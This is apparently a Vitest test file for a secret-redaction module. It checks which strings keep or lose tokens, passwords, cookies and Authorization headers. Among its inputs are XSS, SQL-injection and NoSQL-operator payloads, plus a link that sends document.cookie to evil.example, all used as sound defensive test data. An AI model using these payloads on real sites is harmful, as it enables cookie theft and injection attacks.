import { describe, expect, it } from 'vitest';
import { createRedactor } from '../../src/redaction/redactor.ts';

const redactor = createRedactor({ secrets: [], heuristics: true });

describe('a text without a credential stays', () => {
  it.each([
    '[GET]&nbsp;&nbsp;http://shop.example/search?q=<script>alert(1)</script>&page=2',
    "id=1' OR '1'='1&sort=name",
    'q=%27%22%3E%3Csvg%2Fonload%3Dalert%281%29%3E',
    `<a href='//evil.example/?c='+document.cookie>x</a>`,
    'The password must be at least 8 characters; a token is tokenized, and "session" is a word.',
    'password must be changed. The token expired: ask for a new one.',
    'Password: must be at least 8 characters',
    'Password: required',
    'A Bearer token is needed; see bearer authentication, Bearer tokens.',
    'Bearer of bad news, bearer 2 of it, a bearer bond.',
    'Bearer certificate-based methods, bearer cookie-only ones.',
    'see http://a.example,joe@b.example',
    'see https://nvd.nist.gov;mailto:security@vendor.example',
    'The Authorization: header should be sent over TLS only.\nNext',
    'session.cookie_secure=1\nsession.cookie_httponly = On\nsession.use_strict_mode=true',
    'login({\n  password: req.body.password,\n  token: process.env.API_TOKEN\n})',
    '{"user":"a","password":{"$ne":null},"token":{"$exists":false},"pwd":{"$gt":""}}',
    'user=a&password[$ne]=null&token[$exists]=1',
    'Basic authentication is not enough.',
    'Use an API key: it is safer. The key: none. A public key=abc.',
    '[["user","name"],["page","2"]] {"name":"page","value":"2"} ["token","page"] f(["token","page"])',
    '{"name":"token","type":"h"},{"name":"a","value":"b"}',
    'The Set-Cookie: header lacks HttpOnly',
    'Access-Control-Allow-Headers: Authorization, Cookie, X-Api-Key',
    'Vary: Cookie\nContent-Type: text/html',
    'tokenize=1&tokenizer=2&secretary=joe&possession=3&compass=4&keyword=5',
    '/reset/token/abc123/session:abc/password',
    'https://shop.example/@joe?mail=joe@shop.example',
    '?back=http://shop.example&mail=joe@shop.example',
    'if (token == other || token != null) { token = readToken(); }',
    'usage: login <user> <password> [options]',
    '<title>Password reset</title><label for="password">Password</label><input type="password" name="password">',
    'password=&token=',
    '{"password":"","a":"b"}',
    'a.eyJ.b and eyJ0.x',
    'C:\\new\\token\\runtime',
    '',
  ])('%s', (text) => {
    expect(redactor.text(text)).toBe(text);
  });

  it.each([
    ['a path', '/reset/token/abc123', '/reset/token/abc123'],
    ['the name of a parameter', 'q=1&access_token=abcdef&q=2', 'q=1&access_token=[redacted]&q=2'],
    [
      'the payload of another parameter',
      `token=x"><script>&q=<script>alert('a=b')</script>`,
      `token=[redacted]&q=<script>alert('a=b')</script>`,
    ],
    ['what follows a query in a sentence', 'open /a?token=abcdef, then /b', 'open /a?token=[redacted] then /b'],
    [
      'what follows a query in HTML',
      `<a href='/a?token=abcdef'><script>x()</script>`,
      `<a href='/a?token=[redacted]'><script>x()</script>`,
    ],
    [
      'what follows a query in escaped HTML',
      '&lt;a href=&#39;/a?token=abcdef&#39;&gt;&lt;script&gt;',
      '&lt;a href=&#39;/a?token=[redacted]&#39;&gt;&lt;script&gt;',
    ],
    ['the line after a text that was cut off', '{"token":"abcdef\nkept "x"', '{"token":"[redacted]\nkept "x"'],
    ['what follows JSON that was cut off', `["{\\"token\\":\\"abcdef", 'x']`, `["{\\"token\\":\\"[redacted]", 'x']`],
    ['a program in a form', 'q=<script>x(token=abcdef)</script>&p=1', 'q=<script>x(token=[redacted]</script>&p=1'],
    ['an operator', '{"password":{"$ne":"abcdef"}}', '{"password":{"$ne":"[redacted]"}}'],
    ['the rest of a program', 'a({token: "abcdef", b: "c"}); d = "e";', 'a({token: "[redacted]", b: "c"}); d = "e";'],
  ])('%s stays', (_, given, left) => {
    expect(redactor.text(given)).toBe(left);
  });

  it.each([
    ['a user name before a password', 'http://a.example,joe:pw@b.example', 'http://[redacted]@b.example'],
    ['a header of several words', 'Authorization: header a1b2c3 should stay', 'Authorization: [redacted]'],
    [
      'null in the place of a header',
      '{"Authorization":null,"Cookie":"1"}',
      '{"Authorization":"[redacted]","Cookie":"[redacted]"}',
    ],
    ['a token with a hyphen', 'Bearer certificate-based64', 'Bearer [redacted]'],
    ['a password with dots', 'password: req.body.p4ss\n', 'password: [redacted]\n'],
  ])('only clearly harmless text stays: %s goes', (_, given, left) => {
    expect(redactor.text(given)).toBe(left);
  });

  it('in any text, without heuristics', () => {
    const lenient = createRedactor({ secrets: [], heuristics: false });
    const text = 'Cookie: a=b\npassword=c&token=d https://a:b@c Bearer abcDEF123456';
    expect(lenient.text(text)).toBe(text);
    expect(lenient.json({ password: 'c', session: 1 })).toStrictEqual({ password: 'c', session: 1 });
  });
});
